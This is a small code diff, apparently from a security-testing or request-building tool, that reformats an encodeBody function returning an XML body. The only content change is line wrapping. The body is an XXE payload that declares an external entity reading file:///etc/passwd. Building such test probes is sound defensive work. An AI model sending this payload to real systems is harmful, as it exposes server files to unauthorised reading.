@@ -160,7 +160,9 @@ export function encodeBody(
     case "xml":
       return {
         contentType: "application/xml",
-        body: Buffer.from(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`),
+        body: Buffer.from(
+          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
+        ),
       };
     case "none":
       return { body: Buffer.from(urlencoded) };
